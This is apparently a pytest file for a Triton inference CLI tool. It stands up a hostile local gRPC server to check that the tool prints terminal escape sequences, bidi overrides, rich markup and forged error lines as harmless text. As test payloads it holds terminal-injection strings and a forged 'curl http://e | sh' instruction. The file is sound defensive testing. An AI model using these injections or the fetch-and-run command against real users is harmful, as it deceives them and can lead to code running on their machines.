"""A hostile server's messages, as the real commands show them on a person's terminal."""

from __future__ import annotations

import io
import json
import os
import pty
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import grpc
import pytest
from rich.console import Console
from tritonclient.grpc import service_pb2, service_pb2_grpc

from tests.cli.running import failed
from tests.cli.running import tritonkit_here as tritonkit
from tests.conftest import PROJECT

# Sets the window's title, clears the screen, colors, shows text backwards, begins a line again, and is
# markup of rich.
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2066\rx\u2028[red][link=http://e]y[/]"
SHOWN = r"\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2066\rx\u2028[red][link=http://e]y[/]"
FORGED = "no\nerror: forged\n  do: curl http://e | sh"


class Hostile(service_pb2_grpc.GRPCInferenceServiceServicer):  # type: ignore[misc]
    """Serves one model `m`, all of whose texts are hostile; `bad` fails with such a message."""

    def RepositoryIndex(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        """Names and reasons."""
        index = service_pb2.RepositoryIndexResponse()
        index.models.add(name=EVIL, version=EVIL, state="UNAVAILABLE", reason=EVIL)
        return index

    def ModelMetadata(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        """One BYTES input, one BYTES output with a hostile name; `bad` has none of it."""
        if request.name == "bad":
            context.abort(grpc.StatusCode.INTERNAL, FORGED + EVIL)
        answer = service_pb2.ModelMetadataResponse(name="m", versions=["1"], platform="python")
        answer.inputs.add(name="x", datatype="BYTES", shape=[1])
        answer.outputs.add(name=EVIL, datatype="BYTES", shape=[1])
        return answer

    def ModelConfig(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        """The same."""
        if request.name == "bad":
            context.abort(grpc.StatusCode.INTERNAL, FORGED + EVIL)
        answer = service_pb2.ModelConfigResponse(config={"name": "m"})
        answer.config.input.add(name="x", data_type="TYPE_STRING", dims=[1])
        answer.config.output.add(name=EVIL, data_type="TYPE_STRING", dims=[1])
        return answer

    def ModelInfer(self, request: Any, context: Any) -> Any:  # noqa: N802 - gRPC's name
        """A hostile value."""
        answer = service_pb2.ModelInferResponse(model_name="m", model_version="1")
        answer.outputs.add(name=EVIL, datatype="BYTES", shape=[1])
        value = (EVIL + "\nz").encode()
        answer.raw_output_contents.append(len(value).to_bytes(4, "little") + value)
        return answer


@pytest.fixture
def address() -> Iterator[str]:
    """The answers of a real server."""
    server = grpc.server(ThreadPoolExecutor(2))
    service_pb2_grpc.add_GRPCInferenceServiceServicer_to_server(Hostile(), server)
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    try:
        yield f"127.0.0.1:{port}"
    finally:
        server.stop(grace=None).wait(5)


def test_names_and_values_of_a_server_are_text_in_a_table(address: str) -> None:
    """`call` and `models` show escapes written out, on one line each, and markup as it is."""
    called = tritonkit("call", "m", "--input", "x=1", "--address", address)
    assert called.returncode == 0, called.stderr
    (row,) = called.stdout.splitlines()[2:]
    assert row == f"{SHOWN}      1  {SHOWN}\\nz"
    listed = tritonkit("models", "--address", address)
    (row,) = listed.stdout.splitlines()[2:]
    assert row.startswith(SHOWN)
    assert row.count(r"\x1b]0;owned\x07") == 3
    assert not {"\x1b", "\x9b", "\x07", "\r", "\u202e", "\u2028"} & set(row)


def test_a_servers_message_is_text_in_an_error(address: str) -> None:
    """Escapes are written out, and a line the server made up stands behind a bar."""
    message = failed(tritonkit("call", "bad", "--input", "x=1", "--address", address), 5)
    assert SHOWN in message
    assert "\n  | error: forged\n  |   do: curl http://e | sh" in message
    assert not {"\x1b", "\x9b", "\x07", "\r", "\u202e", "\u2028"} & set(message)


def test_json_is_ascii_and_whole(address: str) -> None:
    """A program gets the very text, and a terminal none of it."""
    done = tritonkit("call", "m", "--input", "x=1", "--address", address, "--json")
    assert done.stdout.isascii()
    assert set(done.stdout) - {"\n"} <= set(map(chr, range(32, 127)))
    assert json.loads(done.stdout)["outputs"] == {EVIL: [EVIL + "\nz"]}


@pytest.mark.parametrize("model", ["m", "bad"])
def test_a_real_terminal_gets_no_escape_but_ours(address: str, model: str) -> None:
    """On a pseudo-terminal the only escapes are the bold and the color of our own words."""
    ours, theirs = pty.openpty()
    command = [sys.executable, "-m", "tritonkit.cli", "call", model, "--input", "x=1"]
    with subprocess.Popen(
        [*command, "--address", address],
        stdout=theirs,
        stderr=theirs,
        cwd=PROJECT,
        env={**os.environ, "TERM": "xterm", "COLUMNS": "80"},
    ) as process:
        os.close(theirs)
        shown = b""
        while True:
            try:
                shown += os.read(ours, 65536)
            except OSError:  # the last process has closed its end
                break
    os.close(ours)
    assert process.returncode == (0 if model == "m" else 5)
    assert rb"\x1b]0;owned\x07" in shown
    rest = shown.replace(b"\x1b[1m", b"").replace(b"\x1b[1;31m", b"").replace(b"\x1b[0m", b"")
    text = rest.decode().replace("\r\n", "\n")
    assert all(c == "\n" or c.isprintable() for c in text), text


def test_a_container_shows_names_of_a_repository_as_text(tmp_path: Path) -> None:
    """The container's entry writes its refusals as the command line does."""
    folder = tmp_path / "m\x1b[2J\u202e\n  do: forged"
    folder.mkdir()
    code = (
        "import sys; from pathlib import Path; sys.path.insert(0, 'deploy/docker'); import checks\n"
        "try:\n    checks.check_repository(Path(sys.argv[1]))\n"
        "except checks.Refused as refused:\n    print(refused)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(folder)], capture_output=True, text=True, check=True, cwd=PROJECT
    )
    assert done.stdout.splitlines() == [
        f"error: {tmp_path}/m" + r"\x1b[2J\u202e\n  do: forged: the model repository is empty",
        "  do: build the models: docker compose up builder (pods: tritonkit build, tritonkit deploy image)",
    ]


def test_what_a_model_folders_python_says_is_text_in_a_bar() -> None:
    """A phrase with markup and escapes shows as it is next to its bar."""
    from tritonkit.cli.progress import Showing, bars

    file = io.StringIO()
    with bars(Console(file=file, force_terminal=True, width=200, color_system=None)) as lines:
        shown = Showing(lines)
        shown._task = lines.add_task("m onnx-fp32", total=None, doing="beginning")
        shown.say(EVIL)
        lines.refresh()
    assert SHOWN in file.getvalue()
